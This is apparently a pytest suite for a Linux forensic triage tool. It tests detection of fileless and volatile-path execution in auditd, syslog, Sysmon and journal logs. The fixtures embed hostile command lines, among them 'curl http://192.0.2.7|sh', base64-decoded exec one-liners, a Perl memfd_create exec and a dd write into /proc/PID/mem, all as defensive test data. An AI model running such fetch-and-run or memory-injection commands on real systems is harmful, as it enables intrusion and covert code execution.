"""What logs tell: audit records, syslog, Sysmon, the journal; and what they could not have seen."""

from __future__ import annotations

import bz2
import gzip
import lzma
from pathlib import Path

import pytest

from tests.linux_image.forge_journal import LZ4, XZ, ZSTD, Writer
from tests.linux_image.trees import Tree, indicators, look, plant, report, worst
from triage.analyze import analyze
from triage.linux_image import audit_log
from triage.linux_image.audit_events import log_events
from triage.model import Report, Why
from triage.model.linux_image import LogEvent

MEMFD = "/memfd:x (deleted)"


def quoted(value: str) -> str:
    """As the kernel writes an untrusted string."""
    plain = all(33 <= ord(c) < 127 and c != '"' for c in value)
    return (
        f'"{value}"' if plain and value else value.encode("utf-8", "surrogateescape").hex().upper()
    )


def event(
    exe: str, words: tuple[str, ...] = (), *, serial: int = 7, call: int = 59, comm: str = "x",
    cwd: str = "/root", extra: str = "", a0: str = "1", a1: str = "1", title: bool = True,
    paths: tuple[str, ...] = (), arch: str = "c000003e", success: str = "yes",
) -> str:  # fmt: skip
    """All records of one event, as auditd writes them."""
    head = f"msg=audit(1767225600.113:{serial})"
    lines = [
        (
            f"type=SYSCALL {head}: arch={arch} syscall={call} success={success} exit=0 a0={a0} a1={a1} "
            f"a2=3 a3=4 items=2 ppid=900 pid={4000 + serial} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 "
            f"egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm={quoted(comm)} exe={quoted(exe)} key=(null)"
        )
    ]
    if words:
        arguments = " ".join(f"a{i}={quoted(w)}" for i, w in enumerate(words))
        lines.append(f"type=EXECVE {head}: argc={len(words)} {arguments}")
    lines.append(f"type=CWD {head}: cwd={quoted(cwd)}")
    lines += [f"type=PATH {head}: item={i} name={quoted(p)} inode=5 dev=00:01 mode=0100777"
              for i, p in enumerate(paths)]  # fmt: skip
    if title:
        lines.append(f"type=PROCTITLE {head}: proctitle={quoted(chr(0).join(words) or comm)}")
    return "\n".join(lines) + "\n" + extra


def audit(*events: str) -> Tree:
    return {"var/log/audit/audit.log": "".join(events)}


HARMFUL: tuple[tuple[str, str, str], ...] = (
    ("memfd", event(MEMFD, ("x",)), "logged-exe-memfd"),
    ("memfd, a patched kernel", event("/memfd:x", ("x",)), "logged-exe-memfd"),
    ("memfd without a name", event("/memfd: (deleted)", ("x",)), "logged-exe-memfd"),
    ("memfd called like a clone", event("/memfd:runc_cloned:/proc/self/exe (deleted)", ("./m", "-o", "p")),
     "logged-exe-memfd"),
    ("memfd, a later call", event(MEMFD, call=257), "logged-exe-memfd"),
    ("shm", event("/dev/shm/x", ("/dev/shm/x",)), "logged-exe-volatile"),
    ("shm, blank in the name", event("/dev/shm/a b", ("a b",)), "logged-exe-volatile"),
    ("shm, unlinked", event("/dev/shm/x (deleted)", ("x",)), "logged-exe-volatile"),
    ("run", event("/run/x", ("/run/x",)), "logged-exe-volatile"),
    ("lock", event("/var/lock/.z", ("z",)), "logged-exe-volatile"),
    ("dev", event("/dev/.x", ("x",)), "logged-exe-volatile"),
    ("tmp, unlinked", event("/tmp/u (deleted)", ("u",)), "logged-exe-deleted"),
    ("script in shm", event("/usr/bin/bash", ("bash", "/dev/shm/a.sh")), "logged-script-volatile"),
    ("script from the directory", event("/usr/bin/bash", ("bash", "a.sh"), cwd="/dev/shm"),
     "logged-script-volatile"),
    ("loader", event("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", ("ld.so", "/dev/shm/x")),
     "logged-script-volatile"),
    ("script in a memfd", event("/usr/bin/bash", ("/bin/bash", "/proc/self/fd/3"),
                                paths=("/proc/self/fd/3",)), "logged-descriptor"),
    ("piped download", event("/usr/bin/bash", ("bash", "-c", "curl http://192.0.2.7|sh")), "logged-command"),
    ("decoded", event("/usr/bin/dash", ("sh", "-c", "echo aWQK | base64 -d | sh")), "logged-command"),
    ("python one-liner", event("/usr/bin/python3.11", ("python3", "-c",
        "import base64;exec(base64.b64decode('aWQ='))")), "logged-command"),
    ("perl memfd", event("/usr/bin/perl", ("perl", "-e",
        'my $f=syscall(319,my $n="",1);exec {"/proc/self/fd/$f"} "x"')), "logged-command"),
    ("disguised shell", event("/usr/bin/bash", ("kworker", "-c", "echo aWQK|base64 -d|sh")), "logged-command"),
    ("ddexec", event("/usr/bin/dd", ("dd", "of=/proc/77/mem", "bs=1", "seek=9")), "logged-command"),
    ("title only", event("/usr/bin/bash", call=257, title=False, extra=(
        "type=PROCTITLE msg=audit(1767225600.113:7): proctitle="
        + b"bash\0-c\0curl http://192.0.2.7|sh".hex().upper() + "\n")), "logged-command"),
    ("arguments in pieces", event("/usr/bin/bash", title=False, extra=(
        "type=EXECVE msg=audit(1767225600.113:7): argc=3 a0=\"bash\" a1=\"-c\" a2_len=60 "
        f"a2[0]={b'curl http://192.'.hex().upper()}\n"
        f"type=EXECVE msg=audit(1767225600.113:7): a2[1]={b'0.2.7 | sh'.hex().upper()}\n")), "logged-command"),
    ("sudo", ("type=USER_CMD msg=audit(1767225600.113:9): pid=7 uid=1000 auid=1000 ses=3 msg='cwd=\"/root\" "
     f"cmd={b'/dev/shm/x -a'.hex().upper()} exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'\n"),
     "logged-command"),
    ("memfd_create by Python", event("/usr/bin/python3.11", call=319, comm="python3"), "logged-memfd-created"),
    ("memfd_create on arm64", event("/usr/bin/perl", call=279, comm="perl", arch="c00000b7"),
     "logged-memfd-created"),
    ("ptrace POKETEXT", event("/usr/bin/python3.11", call=101, a0="4", comm="python3"), "logged-injection"),
    ("process_vm_writev", event("/usr/bin/perl", call=311, comm="perl"), "logged-injection"),
    ("enriched", event(MEMFD, ("x",)).replace("key=(null)\n", 'key=(null)\x1dARCH=x86_64 SYSCALL=execve UID="root"\n'),
     "logged-exe-memfd"),
    ("denied by SELinux", ("type=AVC msg=audit(1767225600.113:7): avc:  denied  { execute } for  pid=7 "
     f"comm=\"x\" path={b'/memfd:evil (deleted)'.hex().upper()} dev=\"tmpfs\" ino=1 permissive=1\n"),
     "logged-library"),
    ("from a node", "".join(f"node=web1 {line}\n" for line in event(MEMFD, ("x",)).splitlines()),
     "logged-exe-memfd"),
)  # fmt: skip
BENIGN: tuple[tuple[str, str], ...] = (
    ("ls", event("/usr/bin/ls", ("ls", "-l", "/dev/shm", "/tmp"))),
    ("a file of the name", event("/memfd:x/bin/tool", ("tool",))),
    ("upgraded daemon", event("/usr/sbin/sshd (deleted)", ("sshd: ann",), call=257)),
    ("runc's clone", event("/memfd:runc_cloned:/proc/self/exe (deleted)", ("runc", "init"),
                           comm="runc:[2:INIT]")),
    ("sealed memfd", event("/usr/bin/python3.11", call=319, a1="8", comm="python3")),
    ("PipeWire", event("/usr/bin/pipewire", call=319, comm="pipewire")),
    ("gdb", event("/usr/bin/gdb", ("gdb", "-p", "9"), call=101, a0="4", comm="gdb")),
    ("ptrace to look", event("/usr/bin/python3.11", call=101, a0="2", comm="python3")),
    ("k3s", event("/run/k3s/bin/x", ("x",), success="no").replace("/run/k3s", "/var/lib/rancher")),
    ("make in /tmp", event("/tmp/build/configure-test", ("./conftest",), cwd="/tmp/build")),
    ("script on disk", event("/usr/bin/bash", ("bash", "/usr/local/bin/b.sh", "/dev/shm/out"))),
    ("process substitution", event("/usr/bin/diff", ("diff", "/dev/fd/63", "/dev/fd/62"))),
    ("download to a file", event("/usr/bin/bash", ("bash", "-c", "curl -s http://192.0.2.7 -o /opt/x"))),
    ("quoted words", event("/usr/bin/grep", ("grep", "-r", "curl x | sh", "/etc"))),
    ("systemd's executor", event("/usr/lib/systemd/systemd-executor", ("systemd-executor", "--deserialize", "9"),
                                 call=322, comm="9")),
    ("a core dump's memfd", ("type=AVC msg=audit(1767225600.113:7): avc:  denied  { read } for  pid=7 "
     f"comm=\"x\" path={b'/memfd:sd-systemd-coredump (deleted)'.hex().upper()} dev=\"tmpfs\" ino=1\n")),
    ("mprotect", event("/usr/bin/node", call=10, comm="node")),
)  # fmt: skip


def loud(found: Report) -> set[str]:
    """Indicators that were not explained and are more than information."""
    return {
        finding.indicator
        for subject in found.subjects
        for finding in subject.findings
        if not finding.attested and finding.severity.points > 5
    }


@pytest.mark.parametrize(
    ("text", "expected"), [c[1:] for c in HARMFUL], ids=[c[0] for c in HARMFUL]
)
def test_an_audit_record_tells(tmp_path: Path, text: str, expected: str) -> None:
    around = "".join(event("/usr/bin/ls", ("ls",), serial=n) for n in range(20, 40))
    found = report(tmp_path, audit(around, text, around))
    assert expected in loud(found)


@pytest.mark.parametrize("text", [c[1] for c in BENIGN], ids=[c[0] for c in BENIGN])
def test_an_ordinary_audit_record_is_silent(tmp_path: Path, text: str) -> None:
    assert loud(report(tmp_path, audit(text))) == set()


def test_records_of_events_that_are_mixed_up_are_joined(tmp_path: Path) -> None:
    one = event(MEMFD, ("evil", "-d"), serial=1).splitlines()
    other = event("/usr/bin/ls", ("ls", "-l"), serial=2).splitlines()
    mixed = "\n".join(line for pair in zip(one, other, strict=True) for line in pair) + "\n"
    events = [a for a in look(plant(tmp_path, audit(mixed))).artifacts if isinstance(a, LogEvent)]
    assert [(e.exe, e.cmdline, e.cwd) for e in events] == [(MEMFD, ("evil", "-d"), "/root")]


def test_an_event_is_joined_across_pieces_of_the_file() -> None:
    """Wherever the pieces are cut, and whatever lies between."""
    filler = "".join(event("/usr/bin/ls", ("ls", str(n)), serial=n) for n in range(100, 160))
    data = (filler + event(MEMFD, ("evil",), serial=3) + filler).encode()
    for size in (97, 1000, 1 << 14):
        pieces = [data[i : i + size] for i in range(0, len(data), size)]
        found = [
            one
            for records in audit_log.events(pieces, audit_log.Sieve())
            for one in log_events(records, "x")
        ]
        assert [(e.exe, e.cmdline) for e in found] == [(MEMFD, ("evil",))], size


def test_a_long_log_is_sieved_whole() -> None:
    """More than a window of the reader, with one event at each end and one in the middle."""
    filler = "".join(
        event("/usr/bin/cat", ("cat", str(n)), serial=n) for n in range(1000, 3000)
    ).encode()
    evil = [event(f"/memfd:{n} (deleted)", ("x",), serial=n).encode() for n in (1, 2, 3)]
    data = evil[0] + filler * 5 + evil[1] + filler * 5 + evil[2]
    assert len(data) > 8 << 20
    pieces = (data[i : i + (1 << 20)] for i in range(0, len(data), 1 << 20))
    found = [e.exe for r in audit_log.events(pieces, audit_log.Sieve()) for e in log_events(r, "x")]
    assert found == [f"/memfd:{n} (deleted)" for n in (1, 2, 3)]


def zstd(data: bytes) -> bytes:
    zstandard = pytest.importorskip("zstandard")
    packed: bytes = zstandard.ZstdCompressor().compress(data)
    return packed


@pytest.mark.parametrize(
    ("name", "pack"),
    [
        ("1", bytes),
        ("2.gz", gzip.compress),
        ("3.xz", lzma.compress),
        ("4.bz2", bz2.compress),
        ("5.zst", zstd),
    ],
)
def test_rotated_logs_are_unpacked(tmp_path: Path, name: str, pack: object) -> None:
    assert callable(pack)
    tree = {f"var/log/audit/audit.log.{name}": pack(event(MEMFD, ("x",)).encode())}
    assert "logged-exe-memfd" in indicators(report(tmp_path, tree))


def test_a_packed_log_that_was_cut_short_gives_what_it_has(tmp_path: Path) -> None:
    lines = "".join(
        event(MEMFD if n == 1 else "/usr/bin/ls", ("x", str(n)), serial=n) for n in range(4000)
    )
    packed = gzip.compress(lines.encode())
    snapshot = look(plant(tmp_path, {"var/log/audit/audit.log.1.gz": packed[: len(packed) // 2]}))
    assert "logged-exe-memfd" in indicators(analyze(snapshot))
    assert any(
        g.why is Why.MALFORMED and "audit.log.1.gz" in g.location.path for g in snapshot.gaps
    )


def test_like_events_are_one_with_a_count(tmp_path: Path) -> None:
    many = "".join(event(MEMFD, ("x",), serial=n) for n in range(1, 51))
    events = [a for a in look(plant(tmp_path, audit(many))).artifacts if isinstance(a, LogEvent)]
    assert [e.count for e in events] == [50]


def test_a_flood_of_notable_events_is_bounded_and_said(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audit_log, "EVENTS_MAX", 100)
    many = "".join(event(f"/dev/shm/{n}", ("x",), serial=n, title=False) for n in range(1, 131))
    snapshot = look(plant(tmp_path, audit(many)))
    assert sum(isinstance(a, LogEvent) for a in snapshot.artifacts) == 100
    assert any("30 more notable events" in gap.detail for gap in snapshot.gaps)


# --- what rules cannot see --------------------------------------------------------------------


def sentences(top: Path, rules: str | None, *, logs: bool = True) -> list[str]:
    tree: dict[str, str | bytes] = {"var/log/audit/audit.log": "\n"} if logs else {}
    if rules is not None:
        tree["etc/audit/audit.rules"] = rules
    gaps = look(plant(top, tree)).gaps
    return [gap.detail for gap in gaps if "audit" in gap.location.path]


EXEC_RULES = "-a always,exit -F arch=b64 -S execve,execveat -k exec\n"
MEMFD_RULE = "-a always,exit -F arch=b64 -S memfd_create -F key=anon\n"


def test_rules_that_see_everything_are_not_complained_about(tmp_path: Path) -> None:
    assert sentences(tmp_path, "-D\n-b 8192\n" + EXEC_RULES + MEMFD_RULE) == []


@pytest.mark.parametrize(
    ("rules", "part"),
    [
        ("-D\n-b 8192\n-w /etc/passwd -p wa\n", "no rule records execve"),
        (EXEC_RULES, "no rule records memfd_create"),
        (
            "-a never,exit -F arch=b64 -F dir=/dev/shm/ -k x\n" + EXEC_RULES + MEMFD_RULE,
            "excludes /dev/shm",
        ),
        ("-a task,never\n" + EXEC_RULES, "excludes every process"),
        ("-e 0\n" + EXEC_RULES + MEMFD_RULE, "switched off"),
        ("-a always,exclude -F msgtype=EXECVE\n" + EXEC_RULES + MEMFD_RULE, "drops records"),
        ("-r 100\n" + EXEC_RULES + MEMFD_RULE, "100 records a second"),
    ],
)
def test_what_rules_could_not_have_seen_is_said(tmp_path: Path, rules: str, part: str) -> None:
    assert any(part in sentence for sentence in sentences(tmp_path, rules))


def test_no_rules_and_no_log_is_one_sentence(tmp_path: Path) -> None:
    assert len(sentences(tmp_path, None, logs=False)) == 1


# --- syslog -----------------------------------------------------------------------------------

SYSMON = (
    '<Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID>'
    '<TimeCreated SystemTime="2026-01-01T00:00:00.1Z"/></System><EventData>'
    '<Data Name="UtcTime">2026-01-01 00:00:00.100</Data><Data Name="ProcessId">77</Data>'
    '<Data Name="Image">{image}</Data><Data Name="CommandLine">{command}</Data>'
    '<Data Name="ParentImage">/usr/bin/bash</Data></EventData></Event>'
)


def line(program: str, message: str) -> str:
    return f"Nov 22 07:00:01 host {program}: {message}\n"


SYSLOG: tuple[tuple[str, str, str | None], ...] = (
    ("cron", line("CRON[7]", "(root) CMD (/dev/shm/.x/run)"), "logged-command"),
    ("cron of RHEL", line("CROND[7]", "(root) CMD (curl http://192.0.2.7/x | sh)"), "logged-command"),
    ("sudo", line("sudo", " ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/dev/shm/x -a"),
     "logged-exe-volatile"),
    ("memfd warning", line("kernel", "[ 9.1] python3[77]: memfd_create() called without MFD_EXEC or "
                           "MFD_NOEXEC_SEAL set"), "logged-memfd-created"),
    ("older warning", line("kernel", "memfd_create() without MFD_EXEC nor MFD_NOEXEC_SEAL, pid=77 'perl'"),
     "logged-memfd-created"),
    ("crash in a memfd", line("kernel", "x[77]: segfault at 0 ip 0000 sp 0000 error 4 in "
                              "memfd:evil (deleted)[55d0+1000]"), "logged-exe-memfd"),
    ("sysmon", line("sysmon", SYSMON.format(image="/memfd:x (deleted)", command="x -d")), "logged-exe-memfd"),
    ("sysmon, command", line("sysmon", SYSMON.format(image="/usr/bin/bash",
        command="bash -c &quot;curl x | sh&quot;")), "logged-command"),
    ("sysmon, cut short", line("sysmon", SYSMON.format(image="/dev/shm/x", command="x")[:-60]),
     "logged-exe-volatile"),
    ("audit in the kernel's log", line("kernel", "audit: type=1300 audit(1767225600.113:7): arch=c000003e "
        f"syscall=59 success=yes a0=1 pid=7 uid=0 comm=\"x\" exe={MEMFD.encode().hex().upper()} key=(null)"),
     "logged-exe-memfd"),
    ("preload", line("x", "ERROR: ld.so: object '/dev/shm/x.so' from LD_PRELOAD cannot be preloaded: ignored."),
     "logged-command"),
    ("time with a zone", "2026-01-01T00:00:00.5+02:00 host CRON[7]: (root) CMD (/dev/shm/x)\n", "logged-command"),
    ("cron of Debian", line("CRON[7]", "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)"), None),
    ("sysstat", line("CRON[7]", "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)"), None),
    ("apt", line("sudo", "ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/apt update"), None),
    ("systemd's memfd", line("kernel", "systemd[1]: memfd_create() called without MFD_EXEC or "
                             "MFD_NOEXEC_SEAL set"), None),
    ("words of a program", line("app[9]", "user asked: CMD (/dev/shm/x) and COMMAND=/dev/shm/x"), None),
    ("crash", line("kernel", "app[77]: segfault at 0 ip 0 sp 0 error 4 in libc.so.6[7f00+1000]"), None),
    ("sysmon of ls", line("sysmon", SYSMON.format(image="/usr/bin/ls", command="ls /dev/shm")), None),
)  # fmt: skip


@pytest.mark.parametrize(("text", "expected"), [c[1:] for c in SYSLOG], ids=[c[0] for c in SYSLOG])
def test_a_line_of_syslog(tmp_path: Path, text: str, expected: str | None) -> None:
    found = loud(
        report(tmp_path, {"var/log/syslog": line("x", "before") + text + line("x", "after")})
    )
    assert (expected in found) if expected else found == set()


# --- the journal --------------------------------------------------------------------------------


def journal(*entries: dict[str, str], how: int = 0, compact: bool = False) -> Tree:
    writer = Writer(compact=compact)
    for n in range(30):
        writer.add({"MESSAGE": f"message {n}", "_EXE": "/usr/bin/app", "_PID": "9", "_COMM": "app"})
    for entry in entries:
        writer.add(dict(entry), how=how)
    return {"var/log/journal/0123/system.journal": writer.file()}


JOURNAL: tuple[tuple[str, dict[str, str], str | None], ...] = (
    ("memfd", {"_EXE": MEMFD, "_PID": "77", "_COMM": "3", "MESSAGE": "hello"}, "logged-exe-memfd"),
    ("shm", {"_EXE": "/dev/shm/x", "MESSAGE": "hello"}, "logged-exe-volatile"),
    ("command", {"_EXE": "/usr/bin/bash", "_CMDLINE": "bash -c curl http://192.0.2.7 | sh", "MESSAGE": "x"},
     "logged-command"),
    ("kernel", {"_TRANSPORT": "kernel", "MESSAGE": "python3[7]: memfd_create() called without MFD_EXEC or "
                "MFD_NOEXEC_SEAL set"}, "logged-memfd-created"),
    ("cron", {"SYSLOG_IDENTIFIER": "CRON", "MESSAGE": "(root) CMD (/dev/shm/x)"}, "logged-command"),
    ("audit", {"_TRANSPORT": "audit", "_AUDIT_TYPE_NAME": "SYSCALL", "_AUDIT_ID": "9", "MESSAGE":
        f"SYSCALL arch=c000003e syscall=59 success=yes pid=7 uid=0 exe={MEMFD.encode().hex().upper()} x=1"},
     "logged-exe-memfd"),
    ("audit, arguments", {"_TRANSPORT": "audit", "_AUDIT_TYPE_NAME": "EXECVE", "_AUDIT_ID": "9", "MESSAGE":
        f'EXECVE argc=3 a0="bash" a1="-c" a2={b"curl x|sh".hex().upper()}'}, "logged-command"),
    ("core dump", {"COREDUMP_EXE": MEMFD, "COREDUMP_PID": "7", "MESSAGE": "Process 7 (x) dumped core."},
     "logged-exe-memfd"),
    ("sysmon", {"SYSLOG_IDENTIFIER": "sysmon", "MESSAGE": SYSMON.format(image="/dev/shm/x", command="x")},
     "logged-exe-volatile"),
    ("a daemon", {"_EXE": "/usr/sbin/sshd", "_CMDLINE": "sshd: ann [priv]", "MESSAGE": "Accepted"}, None),
    ("a program's words", {"SYSLOG_IDENTIFIER": "app", "_EXE": "/usr/bin/app", "MESSAGE":
                           "python3[7]: memfd_create() called without MFD_EXEC or MFD_NOEXEC_SEAL"}, None),
    ("cron, stock", {"SYSLOG_IDENTIFIER": "CRON", "MESSAGE": "(root) CMD (run-parts /etc/cron.daily)"}, None),
)  # fmt: skip


@pytest.mark.parametrize("compact", [False, True], ids=["regular", "compact"])
@pytest.mark.parametrize(
    ("entry", "expected"), [c[1:] for c in JOURNAL], ids=[c[0] for c in JOURNAL]
)
def test_an_entry_of_the_journal(
    tmp_path: Path, entry: dict[str, str], expected: str | None, compact: bool
) -> None:
    found = loud(report(tmp_path, journal(entry, compact=compact)))
    assert (expected in found) if expected else found == set()


@pytest.mark.parametrize("how", [XZ, LZ4, ZSTD], ids=["xz", "lz4", "zstd"])
def test_compressed_values_are_judged(tmp_path: Path, how: int) -> None:
    if how == ZSTD:
        pytest.importorskip("zstandard")
    long = {
        "_EXE": "/usr/bin/bash",
        "_CMDLINE": "bash -c curl http://192.0.2.7/" + "a" * 300 + " | sh",
    }
    assert "logged-command" in loud(report(tmp_path, journal(long, how=how)))


def test_a_program_in_the_journal_is_found(tmp_path: Path) -> None:
    import base64

    elf = base64.b64encode(Path("/proc/self/exe").read_bytes()[:30_000]).decode()
    assert "logged-payload" in loud(report(tmp_path, journal({"MESSAGE": "x", "BLOB": elf})))


def test_without_zstandard_the_values_are_a_gap(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("zstandard")
    tree = journal({"_EXE": "/usr/bin/bash", "_CMDLINE": "x" * 300}, how=ZSTD)
    monkeypatch.setitem(__import__("sys").modules, "zstandard", None)
    gaps = look(plant(tmp_path, tree)).gaps
    assert any("install zstandard" in gap.detail for gap in gaps)


@pytest.mark.parametrize("damage", ["cut", "hole", "array"])
def test_a_damaged_journal_is_read_around_the_damage(tmp_path: Path, damage: str) -> None:
    writer = Writer()
    writer.add({"_EXE": "/dev/shm/first", "MESSAGE": "a"})
    for n in range(200):
        writer.add({"MESSAGE": f"message {n} {'y' * 40}", "_EXE": "/usr/bin/app"})
    writer.add({"_EXE": "/dev/shm/last", "MESSAGE": "b"})
    data = bytearray(writer.file())
    if damage == "cut":
        data = data[: len(data) * 3 // 4]
    elif damage == "hole":
        data[5000:9000] = b"\xa5" * 4000
    else:
        data[-3000:] = b"\xff" * 3000
    snapshot = look(plant(tmp_path, {"var/log/journal/0/system.journal": bytes(data)}))
    exes = {a.exe for a in snapshot.artifacts if isinstance(a, LogEvent)}
    assert "/dev/shm/first" in exes
    assert damage == "cut" or "/dev/shm/last" in exes
    assert any(gap.why is Why.MALFORMED for gap in snapshot.gaps)


def test_the_score_of_a_kernel_record_is_not_capped(tmp_path: Path) -> None:
    """A kernel's record of a memfd is a fact; a program's words about one are not."""
    assert worst(report(tmp_path / "a", audit(event(MEMFD, ("x",))))) >= 90
    assert worst(report(tmp_path / "b", {"var/log/syslog": SYSLOG[0][1]})) < 70
